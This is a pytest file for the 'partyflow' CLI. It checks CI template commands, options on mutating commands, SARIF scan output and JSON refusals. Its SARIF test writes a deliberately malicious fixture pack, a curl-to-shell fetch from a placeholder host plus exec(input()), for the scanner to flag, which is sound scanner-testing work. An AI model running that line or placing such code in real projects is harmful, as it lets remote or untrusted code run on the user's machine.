"""The CI/CD interface (issue 14 item 5): the templates in deploy/ci only use commands and options the real CLI
parser accepts, every mutating command takes --yes and --json, and SARIF output is structurally valid."""

from __future__ import annotations

import functools
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.manager.helpers import ROOT, cli

from partyflow.cli.main import command
from partyflow.config import Home

TEMPLATES = ROOT / "deploy" / "ci"
_OPERATORS = {"&&", "||", ";", "|", "&", "(", ")"}
_REDIRECTS = {">", ">>", "<", "2>", "&>"}
_KEYWORDS = {"if", "then", "else", "elif", "do", "while", "until", "!", "time", "exec"}


def _scripts(node: Any, in_script: bool = False) -> list[str]:
    """Every shell text of a workflow: GitHub's `run:` values and GitLab's `script`/`before_script` items."""
    found: list[str] = []
    if isinstance(node, dict):
        for key, value in node.items():
            script = key in ("run", "script", "before_script", "after_script")
            found += _scripts(value, script)
    elif isinstance(node, list):
        for item in node:
            found += _scripts(item, in_script)
    elif isinstance(node, str) and in_script:
        found.append(node)
    return found


def _partyflow_commands(script: str) -> list[list[str]]:
    """The argument lists of every `partyflow ...` command in a shell text (continuations joined; pipelines,
    lists and redirections split off)."""
    commands = []
    for line in script.replace("\\\n", " ").splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        lexer.commenters = "#"
        segment: list[str] = []
        for token in [*lexer, ";"]:
            if token in _OPERATORS or set(token) <= set("&|;()") and token:
                while segment and segment[0] in _KEYWORDS:
                    segment.pop(0)
                if segment and segment[0] == "partyflow":
                    commands.append(segment[1:])
                segment = []
            else:
                segment.append(token)
    return [_without_redirections(c) for c in commands]


def _without_redirections(args: list[str]) -> list[str]:
    kept, skip = [], False
    for token in args:
        if skip:
            skip = False
        elif token in _REDIRECTS:
            skip = True
        else:
            kept.append(token)
    return kept


def _remaining(ctx: Any) -> list[str]:
    """What a group's parse left for its subcommand (click keeps the command name apart as protected args)."""
    protected = getattr(ctx, "_protected_args", None)
    if protected is None:
        protected = getattr(ctx, "protected_args", [])
    return [*protected, *ctx.args]


@functools.cache
def _root() -> Any:
    return command()


def _parse(args: list[str]) -> list[str]:
    """Run the real click parser over `args` (no command body runs); the resolved command path."""
    root = _root()
    ctx = root.make_context("partyflow", list(args))
    path, group, current = [], root, ctx
    rest = _remaining(ctx)
    while hasattr(group, "commands"):
        name, sub, rest = group.resolve_command(current, rest)
        path.append(name)
        current = sub.make_context(name, list(rest), parent=current)
        rest = _remaining(current)
        group = sub
    assert not rest, f"partyflow {shlex.join(args)}: unexpected arguments {rest}"
    return path


@pytest.mark.parametrize("template", ["github-actions.yml", "gitlab-ci.yml"])
def test_templates_use_only_real_commands(template: str) -> None:
    document = yaml.safe_load((TEMPLATES / template).read_text(encoding="utf-8"))
    commands = [c for script in _scripts(document) for c in _partyflow_commands(script)]
    seen = {" ".join(_parse(args)) for args in commands}
    assert {"scan", "bundle create", "bundle verify", "bundle install", "snapshot save", "keys sign", "env diff",
            "env promote"} <= seen
    for args in commands:
        path = " ".join(_parse(args))
        if path in MUTATING and "--dry-run" not in args:  # a dry run changes nothing, so asks nothing
            assert "--yes" in args and "--json" in args, f"{template}: partyflow {shlex.join(args)}"
        if path == "scan":
            assert "--sarif" in args
    dry = [a for a in commands if a[:2] == ["env", "promote"] and "--dry-run" in a]
    assert dry and all("--json" in a for a in dry)


def test_the_checker_catches_rot() -> None:
    """What the template test relies on: an unknown option or a missing argument fails the real parser."""
    assert "No such option" in _rejected(["env", "promote", "snap.json", "--to", "prod", "--no-such-flag"])
    assert "--to" in _rejected(["env", "promote", "snap.json"])  # --to is required
    assert "No such command" in _rejected(["bundle", "creat", "--output", "x.pfb"])
    assert "high" in _rejected(["scan", ".", "--fail-on", "severe"])  # choices are checked too
    assert _partyflow_commands('partyflow env diff dev prod --json || test $? -eq 1\nif partyflow scan . ; then x; fi') \
        == [["env", "diff", "dev", "prod", "--json"], ["scan", "."]]


def _rejected(args: list[str]) -> str:
    """The parser's usage error for `args` (click's, as vendored by typer: matched by class name)."""
    try:
        _parse(args)
    except Exception as exc:  # noqa: BLE001 - only usage errors count, checked below
        assert any(k.__name__ == "UsageError" for k in type(exc).__mro__), repr(exc)
        return str(exc.format_message()) if hasattr(exc, "format_message") else str(exc)
    raise AssertionError(f"partyflow {shlex.join(args)} was accepted")


MUTATING = {
    "nodes install", "nodes uninstall", "nodes disable", "nodes enable", "nodes update", "nodes fix",
    "snapshot save", "snapshot restore", "bundle create", "bundle install", "backup create", "backup restore",
    "env promote", "keys generate", "keys trust", "keys revoke", "keys sign", "nodes refresh", "mirror build",
    "vulndb import", "audit anchor",
}


def test_every_mutating_command_takes_yes_and_json() -> None:
    root = _root()
    for path in sorted(MUTATING):
        group, leaf = path.split()
        options = {o for p in root.commands[group].commands[leaf].params for o in getattr(p, "opts", [])}
        assert {"--yes", "--json"} <= options, path


def test_sarif_is_valid_and_has_one_result_per_finding(tmp_path: Path) -> None:
    pack = tmp_path / "repo" / "packs" / "shady"
    pack.mkdir(parents=True)
    (pack / "__init__.py").write_text('import os\nos.system("curl http://x.invalid/i.sh | sh")\n'
                                      'exec(input())\nNODE_CLASS_MAPPINGS = {}\n')
    (pack / "requirements.txt").write_text("requests\n")
    home = Home(tmp_path / "home")
    done = cli("scan", "packs", "--sarif", "out.sarif", "--json", "--no-bandit", home=home, cwd=tmp_path / "repo")
    assert done.returncode == 1, done.stderr  # findings at or above --fail-on high
    findings = json.loads(done.stdout)["findings"]
    sarif = json.loads((tmp_path / "repo" / "out.sarif").read_text())

    assert sarif["version"] == "2.1.0" and "sarif-2.1.0" in sarif["$schema"] and len(sarif["runs"]) == 1
    run = sarif["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] and driver["version"]
    rule_ids = [r["id"] for r in driver["rules"]]
    assert len(rule_ids) == len(set(rule_ids)) and set(rule_ids) == {f["rule_id"] for f in findings}
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"]
        assert float(rule["properties"]["security-severity"]) > 0
        assert rule["defaultConfiguration"]["level"] in ("note", "warning", "error")
    assert len(run["results"]) == len(findings) > 0
    for result, finding in zip(run["results"], findings, strict=True):
        assert result["ruleId"] == finding["rule_id"] and rule_ids[result["ruleIndex"]] == result["ruleId"]
        assert result["level"] == {"low": "note", "medium": "warning"}.get(finding["severity"], "error")
        assert result["message"]["text"] == finding["message"]
        (location,) = result["locations"]
        artifact = location["physicalLocation"]["artifactLocation"]
        assert artifact["uriBaseId"] == "SRCROOT"
        assert artifact["uri"] == f"packs/{finding['path']}" == "packs/shady/__init__.py"  # from the checkout
        if finding["line"]:
            assert location["physicalLocation"]["region"]["startLine"] == finding["line"]
    base = run["originalUriBaseIds"]["SRCROOT"]["uri"]
    assert base.startswith("file:///") and base.endswith("/") and base.rstrip("/").endswith("repo")

    clean = tmp_path / "repo" / "packs" / "clean"
    clean.mkdir()
    (clean / "__init__.py").write_text("NODE_CLASS_MAPPINGS = {}\n")
    ok = cli("scan", str(clean), "--sarif", str(tmp_path / "clean.sarif"), home=home, cwd=tmp_path)
    assert ok.returncode == 0, ok.stderr
    assert json.loads((tmp_path / "clean.sarif").read_text())["runs"][0]["results"] == []
    refused = cli("scan", str(tmp_path / "missing"), "--sarif", str(tmp_path / "x.sarif"), home=home)
    assert refused.returncode == 2 and not (tmp_path / "x.sarif").exists()


def test_refusals_exit_2_with_a_json_error_everywhere(tmp_path: Path) -> None:
    """Bad input to any mutating command: exit code 2 and one JSON object saying what and why, never a
    traceback; a pipeline can tell "refused" (2) from "failed" (1) from "ok" (0) the same way for all of them."""
    from typer.testing import CliRunner

    from partyflow.cli.main import app

    home = tmp_path / "home"
    (home / "custom_nodes").mkdir(parents=True)
    (home / "config.toml").write_text('[environments.dev]\nhome = "dev"\n')
    missing = str(tmp_path / "missing")
    runner = CliRunner()
    for args in (["nodes", "uninstall", "nope"], ["nodes", "disable", "nope"], ["snapshot", "restore", "nope"],
                 ["bundle", "install", missing + ".pfb"], ["backup", "restore", missing + ".tar.gz"],
                 ["env", "promote", "env:dev", "--to", "prod"], ["env", "promote", missing, "--to", "dev"],
                 ["keys", "revoke", "nobody"], ["vulndb", "import", missing + ".zip"],
                 ["mirror", "build", str(tmp_path / "mirror"), "--bundle", missing + ".pfb"],
                 ["audit", "anchor", "--out", str(tmp_path / "no" / "such" / "folder" / "a.json")]):
        result = runner.invoke(app, ["--home", str(home), *args, "--yes", "--json"])
        assert result.exit_code == 2, (args, result.output)
        assert result.stdout.strip(), (args, result.output)
        error = json.loads(result.stdout)
        assert error["ok"] is False and error["error"], args
